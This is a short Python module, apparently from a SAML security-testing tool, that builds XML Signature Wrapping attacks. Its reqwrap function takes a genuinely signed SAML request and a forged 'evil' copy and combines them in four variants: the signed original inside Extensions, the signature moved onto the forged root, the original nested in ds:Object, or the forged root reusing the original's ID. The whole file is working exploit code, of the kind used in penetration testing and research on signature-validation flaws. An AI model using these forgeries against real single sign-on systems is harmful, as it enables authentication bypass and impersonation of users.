"""Ways to wrap a signed request in a forged one."""
from lxml import etree
from . import dsig, saml

SIG = "{%s}Signature" % dsig.DS


def q(name, ns=saml.SAMLP):
    return "{%s}%s" % (ns, name)


def take_sig(el):
    s = el.find(SIG)
    el.remove(s)
    return s


def after_issuer(el):
    for i, ch in enumerate(el):
        if isinstance(ch.tag, str) and etree.QName(ch).localname == "Issuer":
            return i + 1
    return 0


def reqwrap(n, signed_xml, evil_xml):
    """The evil copy is itself valid in all but signature."""
    o, e = dsig.parse(signed_xml), dsig.parse(evil_xml)
    if n == 1:                                     # signed original, whole, inside Extensions of the unsigned one
        ext = etree.Element(q("Extensions"))
        ext.append(o)
        e.insert(after_issuer(e), ext)
    elif n == 2:                                   # signature adopted by the evil root, original under Extensions
        sig = take_sig(o)
        e.insert(after_issuer(e), sig)
        ext = etree.Element(q("Extensions"))
        ext.append(o)
        e.insert(after_issuer(e) + 1, ext)
    elif n == 3:                                   # ... original inside ds:Object
        sig = take_sig(o)
        e.insert(after_issuer(e), sig)
        etree.SubElement(sig, "{%s}Object" % dsig.DS).append(o)
    elif n == 5:                                   # evil root keeps the *same ID* as the wrapped, signed original
        sig = take_sig(o)
        e.set("ID", o.get("ID"))
        e.insert(after_issuer(e), sig)
        ext = etree.Element(q("Extensions"))
        ext.append(o)
        e.insert(after_issuer(e) + 1, ext)
    return e
